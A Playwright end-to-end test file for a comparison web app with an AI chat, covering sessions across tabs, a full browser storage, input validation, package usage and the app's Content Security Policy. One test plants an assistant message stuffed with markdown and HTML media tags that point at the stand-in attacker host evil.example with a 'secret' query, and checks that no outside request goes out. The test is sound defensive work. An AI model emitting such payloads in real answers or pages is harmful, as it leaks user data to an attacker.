// On the real server: a session follows the user across tabs and ends where the server
// ends it, a browser storage too full to keep a session says so, bad data stays out (blank names,
// remote content in answers), package re-selection keeps usage, the CSP is enforced. The stalled
// and cut-off backend journeys are in reliability-faults.spec.ts.
//
// Gone with the browser's localStorage backend (nothing left to test): two tabs writing one mock
// database in either order, a write refused because the mock database filled the storage (with its
// "Reset demo data" way out), and the planting of a conversation in `kiyasla.mockdb.v2`.
import { test as plainTest, type Page } from '@playwright/test';
import { test, expect, signIn, logOut, ACCOUNTS, SEED_PASSWORD, freshUser } from './fixtures';
import { apiAs, compareAs } from './support/api-as';

/** Calls the API from the page with the page's own session, as any script of the app's origin could. */
async function api(
  page: Page,
  method: string,
  path: string,
  body: unknown,
): Promise<{ status: number; body: { data?: Record<string, unknown> } }> {
  return page.evaluate(
    async ({ method, path, body }) => {
      const token = localStorage.getItem('token') ?? sessionStorage.getItem('token');
      const response = await fetch(path, {
        method,
        headers: { 'Content-Type': 'application/json', 'Accept-Language': 'en', Authorization: `Bearer ${token}` },
        body: JSON.stringify(body),
      });
      return { status: response.status, body: await response.json() };
    },
    { method, path, body },
  );
}

test.describe('a session across tabs', () => {
  test('signing out in one tab signs out the other', async ({ page }) => {
    await signIn(page, ACCOUNTS.premium, { remember: true });
    const tabB = await page.context().newPage();
    await tabB.goto('/app/compare');
    await expect(tabB.getByLabel('What do you want to compare?')).toBeVisible();
    await logOut(page);
    await expect(page).toHaveURL(/\/$/);
    await expect(tabB).toHaveURL(/\/$/);
  });

  test('without remember-me the stored user is kept for this tab only', async ({ page }) => {
    await signIn(page, ACCOUNTS.premium);
    const stored = await page.evaluate(() => ({
      local: localStorage.getItem('user'),
      session: sessionStorage.getItem('user'),
    }));
    expect(stored.local).toBeNull();
    expect(JSON.parse(stored.session ?? '{}')).toMatchObject({ email: ACCOUNTS.premium });
  });

  test('a password changed in another browser ends this session: the next page says so', async ({ page, request }) => {
    const user = await freshUser(request, 'Level_2');
    await signIn(page, user.email, { password: user.password, remember: true });
    await page.goto('/app/profile');
    await expect(page.getByLabel('Full name')).toHaveValue(user.name);

    // The user's other session (freshUser's own, not this browser's) changes the password.
    const changed = await apiAs(request, user, 'PUT', '/api/users/me/password', {
      oldPassword: user.password,
      newPassword: 'An0ther.Passw0rd',
    });
    expect(changed.status).toBe(200);

    await page.goto('/app/compare_history');
    await expect(page).toHaveURL(/\/$/);
    await expect(page.getByText('Your session has ended. Please sign in again.')).toBeVisible();
    expect(await page.evaluate(() => localStorage.getItem('token') ?? sessionStorage.getItem('token'))).toBeNull();
  });
});

test('a browser storage too full to keep the session: sign-in says so on the form, and works once there is room', async ({
  page,
}) => {
  await page.goto('/login');
  // Fill localStorage until not one more character fits.
  await page.evaluate(() => {
    let size = 1 << 22;
    let index = 0;
    while (size >= 1) {
      try {
        localStorage.setItem(`filler-${index}`, 'x'.repeat(size));
        index += 1;
      } catch {
        size = Math.floor(size / 2);
      }
    }
  });
  await page.getByLabel(/^Email/).fill(ACCOUNTS.premium);
  await page.getByLabel(/^Password$/).fill(SEED_PASSWORD);
  await page.getByLabel('Remember me').check();
  await page.getByRole('button', { name: 'Sign in' }).click();
  await expect(
    page.getByRole('alert').filter({ hasText: /this browser could not keep your session because its storage is full/ }),
  ).toBeVisible();
  await expect(page).toHaveURL(/\/login/);
  expect(await page.evaluate(() => localStorage.getItem('token') ?? sessionStorage.getItem('token'))).toBeNull();

  await page.evaluate(() =>
    Object.keys(localStorage)
      .filter((key) => key.startsWith('filler-'))
      .forEach((key) => localStorage.removeItem(key)),
  );
  await signIn(page, ACCOUNTS.premium, { remember: true });
});

test.describe('bad data stays out', () => {
  test('an assistant message with remote images and media makes no outside request', async ({ page }) => {
    await signIn(page, ACCOUNTS.premium);
    const leak = 'https://evil.example/leak';
    const now = new Date().toISOString();
    // An answer as an AI provider could write it, relayed by the server: the network stands in for
    // it (the demo engine never writes one), so the test is about what the browser does with it.
    await page.route('**/api/messages/conv_planted', (route) =>
      route.fulfill({
        json: {
          success: true,
          data: [
            { id: 'msg_planted_1', role: 'user', content: 'Show me', createdAt: now, status: 'done' },
            {
              id: 'msg_planted_2',
              role: 'assistant',
              createdAt: now,
              status: 'done',
              content: [
                'Here is **the chart**: ![the chart](' + leak + '.png?q=secret)',
                '<img src="' + leak + '-img.png"><img src="x" srcset="' + leak + '-srcset.png 2x">',
                '<picture><source srcset="' + leak + '-picture.png"><img src="' + leak + '-picture-img.png"></picture>',
                '<video poster="' +
                  leak +
                  '-poster.png" src="' +
                  leak +
                  '.mp4"></video><audio src="' +
                  leak +
                  '.mp3"></audio>',
                '<table background="' + leak + '-table.png"><tr><td>cell</td></tr></table>',
                'End of answer.',
              ].join('\n\n'),
            },
          ],
        },
      }),
    );
    const outside: string[] = [];
    page.on('request', (request) => {
      const url = new URL(request.url());
      if (url.hostname !== '127.0.0.1' && url.protocol !== 'data:') outside.push(request.url());
    });
    await page.goto('/app/chat?conversation=conv_planted');
    await expect(page.getByText('End of answer.')).toBeVisible();
    await expect(page.getByRole('link', { name: 'the chart' })).toHaveAttribute('href', `${leak}.png?q=secret`);
    await expect(page.getByRole('log').locator('img, video, audio, picture')).toHaveCount(0);
    expect(outside).toEqual([]);
  });

  test('a name of only spaces is refused and the account still signs in', async ({ page, request }) => {
    const user = await freshUser(request, 'Level_2');
    await signIn(page, user.email, { password: user.password });
    const answer = await api(page, 'PUT', '/api/users/me', { name: '   ', email: user.email, language: 'en' });
    expect(answer.status).toBe(422);
    const register = await api(page, 'POST', '/api/register', {
      name: ' \t ',
      email: `blank-${user.email}`,
      password: 'secret1',
      language: 'en',
    });
    expect(register.status).toBe(422);
    await logOut(page);
    await expect(page).toHaveURL(/\/$/);
    await signIn(page, user.email, { password: user.password });
    await page.goto('/app/profile');
    await expect(page.getByLabel('Full name')).toHaveValue(user.name);
  });

  test("choosing the current package again keeps the month's usage", async ({ page, request }) => {
    // A Free user of its own (limit 5) who has used two comparisons this month.
    const user = await freshUser(request, 'Level_1');
    await compareAs(request, user, ['iPhone 15 vs Pixel 8', 'Netflix vs Disney+']);
    await signIn(page, user.email, { password: user.password });
    const remaining = page
      .locator('.package-details__row')
      .filter({ hasText: /Remaining comparisons|Kalan karşılaştırma/ })
      .locator('dd');
    await page.goto('/app/package');
    await expect(remaining).toHaveText('3');
    const answer = await api(page, 'PUT', '/api/packages/me', { package_name: 'Level_1' });
    expect(answer.status).toBe(200);
    expect(answer.body.data).toMatchObject({ remaining_compares: 3, end_date: null });
    await page.reload();
    await expect(remaining).toHaveText('3');
  });

  // The plain Playwright test: its deliberate violation must not trip the fixture's CSP watch.
  plainTest('the server sends the CSP header with the app, and it blocks an outside image', async ({ page }) => {
    const response = await page.goto('/');
    const policy = response?.headers()['content-security-policy'] ?? '';
    expect(policy).toContain("img-src 'self' data:");
    expect(policy).toContain("connect-src 'self'");
    // Only a header can say this (a <meta> policy cannot).
    expect(policy).toContain("frame-ancestors 'none'");
    const blocked = await page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), {
            once: true,
          });
          const image = document.createElement('img');
          image.src = 'https://evil.example/probe.png';
          document.body.append(image);
        }),
    );
    expect(blocked).toBe('img-src');
  });
});
